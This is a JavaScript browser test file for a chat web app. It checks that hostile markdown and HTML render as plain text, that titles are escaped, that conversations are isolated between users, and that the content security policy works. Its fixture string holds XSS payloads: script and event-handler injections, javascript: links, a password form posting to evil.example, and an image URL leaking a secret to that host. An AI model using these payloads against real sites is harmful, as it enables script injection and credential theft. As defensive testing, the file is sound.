// Texts that would like to be more than text. What left the server, and what broke the policy, is watched in every check.

import assert from "node:assert/strict";

const HOSTILE = [
  "<script>window.pwned = 1</script>",
  "<img src=x onerror='window.pwned = 1'>",
  "<svg onload='window.pwned = 1'></svg>",
  "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
  "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
  "<form action='https://evil.example'><input name='password'></form>",
  "<a href='javascript:window.pwned = 1' id='input'>x</a>",
  "[click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>) [here](/web/session/logout)",
  "![pixel](https://evil.example/p.png?secret) ![ref][r]",
  "",
  "[r]: https://evil.example/r.png",
  "",
  "![svg](data:image/svg+xml;base64,PHN2Zy8+) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=)",
  "",
  "<div style='position:fixed;inset:0;background:red'>over everything</div>",
].join("\n\n");

/** What is active, remote or misplaced in an answer. */
function active() {
  const allowed = /^(a|article|blockquote|br|button|code|del|details|div|em|h[1-6]|hr|img|li|ol|p|path|pre|span|strong|summary|svg|table|tbody|td|th|thead|tr|ul)$/;
  const found = [];
  for (const element of document.querySelectorAll("#messages .message *")) {
    const name = element.tagName.toLowerCase();
    if (!allowed.test(name)) found.push(`<${name}>`);
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith("on") || attribute === "style" || attribute === "id") found.push(`<${name} ${attribute}>`);
      if (attribute === "src" && !/^data:image\/(png|jpeg|gif|webp);/.test(value)) found.push(`<${name} src=${value}>`);
      if (attribute === "href" && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`<${name} href=${value}>`);
    }
  }
  if (window.pwned) found.push("a script ran");
  return found;
}

export const checks = {
  async hostile_markdown_stays_text(person) {
    const { page } = person;
    await person.register();
    await person.choose("echo");
    await person.say(HOSTILE);
    const answer = person.answers.last();
    assert.match(await answer.textContent(), /<script>window\.pwned/, "it is shown as text");
    assert.match(await answer.textContent(), /\[image: pixel\]/);
    assert.equal(await answer.locator("img").count(), 1, "the picture inside the text stays");
    assert.deepEqual(await page.evaluate(active), []);
    await page.reload();
    await person.answers.last().waitFor();
    assert.deepEqual(await page.evaluate(active), []);
    await person.picture("hostile");
  },

  async a_hostile_title_stays_text(person) {
    const { page } = person;
    await person.register();
    await person.say("<img src=x onerror=window.pwned=1> <b>title</b>");
    await page.getByRole("link", { name: "<img src=x" }).waitFor();
    assert.equal(await page.locator("#conversations img, #conversations b, #title b").count(), 0);
    assert.deepEqual(await page.evaluate(active), []);
  },

  async a_conversation_of_somebody_else_is_not_there(person) {
    const { page } = person;
    await person.register();
    await person.say("only mine");
    const address = page.url();
    await page.getByRole("button", { name: "Sign out" }).click();
    person.name += "x";
    await person.register();
    await page.goto(address);
    await page.getByRole("alert").filter({ hasText: "does not exist" }).waitFor();
    assert.equal(await page.getByText("only mine").count(), 0);
  },

  async the_policy_stops_what_it_should(person) {
    const { page } = person;
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.pwned = 1";
      document.body.append(script);
      const image = document.createElement("img");
      image.src = "https://evil.example/x.png";
      document.body.append(image);
    });
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    assert.ok(person.forbidden.some((text) => /script-src|inline script/i.test(text)), "the inline script was refused");
    assert.ok(person.forbidden.some((text) => /img-src|evil\.example/i.test(text)), "the remote picture was refused");
    person.forbidden.length = 0;
  },
};
